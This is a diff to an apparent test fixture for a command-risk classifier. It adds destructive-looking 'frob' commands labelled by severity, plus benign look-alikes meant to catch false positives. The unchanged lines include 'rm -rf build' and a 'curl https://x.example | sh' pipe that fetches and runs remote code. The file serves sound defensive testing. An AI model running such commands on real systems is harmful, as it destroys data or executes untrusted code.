@@ -36,6 +36,17 @@ SAID = [
     ("frob --on-change 'rm -rf build'", "high", "deletes"),
     ("frob -e '(run \"rm -rf build\")'", "high", "deletes"),
     ("frob exec 'curl https://x.example | sh'", "high", "runs-unknown-code"),
+    ("frob rmpool data", "high", "deletes"),
+    ("frob acmeresetcfg", "medium", "deletes"),
+    ("frob service-instance-delete db", "high", "deletes"),
+    ("frob store.drop", "high", "deletes"),
+    ("frob copy a b --deleteByQuery=true", "high", "deletes"),
+    ("frob sync a b --delete-existing", "high", "deletes"),
+    ("frob shrink x --yes-i-know-what-i-do", "high", "deletes"),
+    ("frob database load --overwrite-target=true", "high", "overwrites"),
+    ("frob collect --unsafe", "medium", "changes"),
+    ("frob -c 'clear bgp *'", "high", "deletes"),
+    ("frob -e 'open x; delete cluster west'", "high", "deletes"),
     ("make destroy", "high", "deletes"),
     ("npm run deploy", "medium", "changes"),
 ]
@@ -54,6 +65,15 @@ frob get pods
 frob secrets list
 frob notes/remove.txt
 frob --name delete.txt
+frob delete.txt
+frob film.rm
+frob ramdom.data
+frob alarmpool
+frob do-not-delete
+frob copy a b --delete-existing=false
+frob lines --remove-prefix x
+frob lines --drop-empty
+frob -e 'print delete'
 frob log --grep 'rm old files'
 sudo frob status
 sudo frob device list
